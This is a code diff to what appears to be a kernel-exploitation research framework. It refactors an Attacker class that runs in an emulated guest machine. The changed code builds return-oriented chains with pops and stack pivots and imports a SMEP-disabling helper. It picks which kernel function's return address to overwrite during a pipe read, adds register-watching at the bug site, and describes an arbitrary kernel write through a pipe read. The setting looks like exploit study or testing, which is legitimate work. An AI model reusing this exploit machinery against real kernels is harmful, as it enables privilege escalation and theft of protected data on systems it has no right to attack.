@@ -12,10 +12,11 @@ from collections.abc import Callable
 from dataclasses import dataclass
 from typing import TYPE_CHECKING
 
-from thinbox.address import page_start
+from thinbox.attacks.bug import REGISTERS as REGISTER_NUMBERS
 from thinbox.attacks.bug import Bug, wrong_registers
 from thinbox.attacks.leak import Leak
 from thinbox.attacks.payload import POP_RSP, REGISTERS, RETURN, Chain, ExploitFailedError, pops
+from thinbox.attacks.read_run import RETURNING, ReadRun
 from thinbox.attacks.scenario import ATTACKER_AREA, DONE, GO, PRIVATE_FILE, SECRET_BYTES, Scenario
 from thinbox.attacks.smep import set_smep
 from thinbox.guest.agent_channel import Syscall
@@ -30,27 +31,6 @@ if TYPE_CHECKING:
 Wanted = Callable[[int], bool] | None
 _PROT_RW, _PROT_RWX, _PRIVATE_ANON_FIXED = 3, 7, 0x32
 O_RDWR, _O_CREAT_RDWR = 2, 0o102
-
-
-_OVERFLOWED = "vfs_read"
-RUN_BY_READ = (
-    "do_syscall_64",
-    "x64_sys_call",
-    "syscall_enter_from_user_mode",
-    "ksys_read",
-    "__fdget_pos",
-    "vfs_read",
-    "rw_verify_area",
-    "security_file_permission",
-    "anon_pipe_read",
-    "pipe_read",
-    "mutex_lock",
-    "mutex_unlock",
-    "copy_page_to_iter",
-    "_copy_to_iter",
-    "touch_atime",
-)
-"""What a read of a pipe has run when vfs_read returns; of a kernel that lacks one, the others are taken."""
 
 
 @dataclass(frozen=True, slots=True)
@@ -69,6 +49,7 @@ class Attacker(GuestProcess):
         super().__init__(opened, ATTACKER_AREA // AREA_BYTES)
         self._attempt, self._machine = attempt, opened.machine
         self.task, self.text, self.victim = scenario.attacker_task, scenario.text, scenario.victim
+        self._read_run, self.candidate = scenario.read_run, attempt.candidate
 
     @property
     def leak(self) -> Leak:
@@ -124,6 +105,20 @@ class Attacker(GuestProcess):
         yield from self.must("getpid")
         return found[0]
 
+    def holders(self, place: int, value: int, name: str, *args: Argument) -> Steps:
+        """Make a call, and find out which registers hold `value` when it comes to `place`: their names."""
+        found: list[frozenset[str]] = []
+
+        def look() -> None:
+            regs = self._machine.cpu.regs
+            found.append(frozenset(known for known, number in REGISTER_NUMBERS.items() if regs[number] == value))
+
+        self._attempt.watch(place, look)
+        yield from self.call(name, *args)
+        if not found:
+            raise ExploitFailedError(f"{name} did not come to the place of the bug; this kernel does it in another way")
+        return found[0]
+
     def end_chain(self, chain: Chain, frame: Frame, wanted: Wanted = None) -> Chain:
         """Let a chain end as the handler would have: in `do_syscall_64`, its registers as it left them."""
         code = pops(number for number, _value in frame.registers)
@@ -157,11 +152,11 @@ class Attacker(GuestProcess):
         """Return a function whose return address is to be overwritten in a read of a pipe, and how many words lie from
         there to the handler's: `vfs_read`, or, where that has no room for a chain of `words`, what it calls."""
         slots = 0
-        for function in (_OVERFLOWED, find_pipe(self.facts).read):
+        for function in (RETURNING, find_pipe(self.facts).read):
             slots = yield from self.overflow_slots(function, frame)
             if slots >= words + 1 + len(frame.registers):
                 return function, slots
-        return _OVERFLOWED, slots
+        return RETURNING, slots
 
     # -- memory and pipes -----------------------------------------------------------------------------
     def own_file(self) -> Steps:
@@ -185,18 +180,17 @@ class Attacker(GuestProcess):
         yield from self.must("read", ends[0], vaddr, len(data))
         return vaddr
 
-    def is_run_by_read(self, vaddr: int) -> bool:
-        """Whether a read of a pipe has run code in the page of `vaddr`, and of what follows it."""
-        pages = self.text.pages_of(RUN_BY_READ) | {page_start(self.copy_routine)}
-        return page_start(vaddr) in pages and page_start(vaddr + 3) in pages
+    @property
+    def read_run(self) -> ReadRun:
+        """What a read of a pipe has run when `vfs_read` returns."""
+        if isinstance(self._read_run, ExploitFailedError):
+            raise self._read_run
+        return self._read_run
 
     @property
     def copy_routine(self) -> int:
-        """The routine that copies to and from users, as the running kernel calls it (alternatives patch the call)."""
-        for _vaddr, _size, mnemonic, operands in self.text.decode(self.text.function("_copy_to_user")):
-            if mnemonic == "call" and operands.startswith("0x"):
-                return int(operands, 16)
-        return self.text.function("copy_user_generic_unrolled")
+        """The routine that copies to and from users, as the running kernel calls it."""
+        return self.text.copy_routine
 
     def write_kernel(self, vaddr: int, data: bytes) -> Steps:
         """Arbitrary write: a read of a pipe, whose copy to the user gets a kernel address as its destination."""
